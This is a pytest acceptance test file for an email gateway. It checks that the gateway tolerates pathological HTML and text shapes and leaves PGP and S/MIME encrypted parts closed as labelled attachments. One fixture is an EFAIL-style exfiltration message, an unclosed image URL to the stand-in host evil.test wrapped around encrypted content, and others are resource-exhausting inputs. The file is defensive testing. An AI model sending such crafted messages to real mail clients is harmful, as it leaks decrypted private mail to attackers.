"""C-13: HTML and text of any shape cost little; what is encrypted stays closed and is labelled."""

from pathlib import Path

import pytest

from gateway.config import Settings
from tests.acceptance.hostile import hostile, through

pytestmark = [pytest.mark.p0, pytest.mark.push]


_HTML = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
_SHAPES = (
    _HTML + b"<div>" * 100_000 + b"words",
    _HTML + b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">words",
    b"\r\n" + b"> " * 2_000_000,
    _HTML + b"words" + b"<a href=http://x.test/>y</a>" * 20_000,
    _HTML + b"<style>" + b"a{b:c}" * 300_000 + b"</style>words",
    _HTML + b"words<plaintext>" + b"<b>x" * 100_000,
    _HTML + b"words<!-- " + b"x" * 1_000_000,
)


async def test_C13_any_shape_is_read(settings: Settings, tmp_path: Path) -> None:
    found = await through(settings, tmp_path, [hostile(shape, number=n) for n, shape in enumerate(_SHAPES)])
    for n, read in enumerate(found):
        assert n == 2 or "words" in read.entry.text + read.entry.quoted


async def test_C13_what_is_encrypted_stays_closed(settings: Settings, tmp_path: Path) -> None:
    pgp = (
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n'
        b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        b"--b\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n"
        b"-----BEGIN PGP MESSAGE-----\r\n--b--\r\n"
    )
    smime = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\r\nMIAG\r\n"
    # an image around what a careless program would decrypt into its address
    efail = (
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil.test/\r\n--b\r\n' + smime + b'--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    found = await through(settings, tmp_path, [hostile(m, number=n) for n, m in enumerate((pgp, smime, efail))])
    assert [[a.name for a in read.entry.attachments] for read in found] == [
        ["part-1.1.bin", "encrypted.asc"], ["smime.p7m"], ["smime.p7m"],
    ]  # fmt: skip
    assert not any("evil.test" in (read.entry.html or "") for read in found)
